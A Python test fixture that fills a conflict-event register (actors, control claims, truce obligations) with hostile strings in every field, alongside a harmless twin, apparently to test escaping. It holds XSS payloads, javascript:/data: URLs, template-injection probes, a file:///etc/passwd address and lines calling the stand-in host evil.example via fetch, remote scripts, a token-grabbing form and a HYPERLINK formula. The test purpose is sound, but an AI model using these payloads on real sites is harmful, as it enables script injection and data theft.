"""A register full of words that want to be more than words, and its twin, in which harmless words stand in their places."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from itertools import count
from pathlib import Path

from whoholds.model import (
    Act,
    Action,
    Actor,
    Asserted,
    Change,
    Claim,
    Control,
    Count,
    Document,
    Event,
    EventType,
    Filed,
    Matter,
    Obligation,
    Place,
    Role,
    Step,
    When,
    Where,
)
from whoholds.questions import Register

ELSEWHERE = "evil.example"
RUN = f"window.ran=1;fetch('https://{ELSEWHERE}/')"
WORDS = {
    "script": f"<script>{RUN}</script>",
    "script closed": f"</script><script src=//{ELSEWHERE}/x.js></script>",
    "script in JSON": f'"}}]}}</script><script>{RUN}</script>',
    "picture": f'"><img src=x onerror="{RUN}">',
    "handler": f"' onmouseover='{RUN}' onfocus='{RUN}' autofocus tabindex='1",
    "handler doubly quoted": f'" onmouseover="{RUN}" onfocus="{RUN}" autofocus tabindex="1',
    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s><foreignObject><b>b</b></foreignObject></svg>",
    "style": f"<style>*{{display:none!important;background:url(https://{ELSEWHERE}/c)}}</style>",
    "stylesheet": f"<link rel=stylesheet href=//{ELSEWHERE}/x>",
    "style attribute": f'" style="position:fixed;inset:0;background:url(https://{ELSEWHERE}/s)',
    "frame": '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "object": f"<object data=//{ELSEWHERE}/o></object><embed src=//{ELSEWHERE}/e>",
    "form": f"<form action=https://{ELSEWHERE}/><input name=token autofocus><button formaction=//{ELSEWHERE}>in</button>",
    "base": f'<base href="https://{ELSEWHERE}/"><meta http-equiv=refresh content="0;url=https://{ELSEWHERE}/">',
    "link": f'<a href="javascript:{RUN}">click</a><a href="data:text/html,{RUN}">click</a>',
    "address": f"javascript:{RUN}//",
    "template": "{{7*7}}{{config}}${7*7}#{7*7}<%=7*7%>{% for x in [1] %}[[7*7]]",
    "closing": "--> ]]> </title></textarea></style></noscript></template></select></table></main></body></html>",
    "math": f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    "formula": '=HYPERLINK("https://evil.example/","words")',
    "long": "a" * 3_000,
    "override": "\u202e\u202egnihtemos\u2066 \u2067words",
    "isolate": "\u2066\u2066\u2068never closed",
    "null": "a\x00b\x1b[31mc\x7f\x9b\r\x08d",
    "half": "half a character: \udc80 \ud800",
    "odd": "\ufeff\u200b\ufffe\u2028\u2029\U000e0001\u0301\u0301 words",
}
ADDRESSES = (
    f"javascript:{RUN}",
    f" javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "file:///etc/passwd",
    f"//{ELSEWHERE}/x",
    f"blob:https://{ELSEWHERE}/x",
    "https:",
    "https://[::1",
)
DAY = date(2020, 11, 1)


def harmless(words: str) -> str:
    """Other words in the place of hostile ones."""
    return f"words {len(words)} of a report"


def fill(path: Path, *, hostile: bool) -> None:
    """Make a register with such words wherever words can be: a report, a place, a duty and an incident for each."""
    with Register(path) as register:
        for number, (kind, words) in enumerate(WORDS.items()):
            said = words if hostile else f"{harmless(words)} {kind}"
            address = ADDRESSES[number % len(ADDRESSES)] + ("" if number < len(ADDRESSES) else f"#{number}")
            register.store.append(list(_acts(number, said, address if hostile else f"file:{number}")), by=said[:200])
        register.settle()


def _acts(number: int, words: str, address: str) -> Iterator[Act]:
    place, side = _place(number, words), Actor(name=f"{words} {number}", country="AZE", role=Role.MIL, organisation=words[:80])
    foe = Actor(name=f"foes of {words} {number}", country="ARM", role=Role.UAF, organisation=f"foes {number} {words[:80]}")
    duty = Obligation(
        step=Step.SET,
        action=Action.HAND_OVER,
        obligors=(foe,),
        beneficiaries=(side,),
        due=When("2020-11-15"),
        agreement=f"truce {words}",
        reason=words,
    )
    matters: list[tuple[str, Matter]] = [
        (f"{words} took it", Control(change=Change.GAINS, holder=side, former=foe)),
        (f"{words} still holds", Control(change=Change.HOLDS, holder=foe)),
        (f"{words} struck", Event(type=EventType.ASSAULT, actors=(foe,), recipients=(side,), killed=Count(1, 4))),
        (f"{words} must go", duty),
    ]
    text = "\n\n".join([f"Report {number}: {words}", *(words for words, _ in matters), words])
    document = Document(
        text=text,
        name=f"{words} {number}",
        title=f"Title {words} {number}",
        url=address,
        outlet=f"Outlet {words} {number}",
        author=words,
        language="en",
        published=date(2020, 11, 2 + number),
        credits=(words,),
    )
    yield Filed(document)
    numbers = count(1)
    for said, matter in matters:
        start = text.index(said)
        yield Asserted(
            Claim(
                matter=matter,
                evidence=document.span(start, start + len(said)),
                said_by=(side,) if next(numbers) % 2 else (),
                when=When(f"2020-11-{number % 28 + 1:02}"),
                where=Where(name=f"{words} {number}", place=place),
                confidence=0.5,
            )
        )


def _place(number: int, words: str) -> Place:
    return Place(
        name=f"{words} {number}", lat=39.5 + number / 20, lon=46.5, country="AZ", feature="P", geonameid=9_000_000 + number
    )
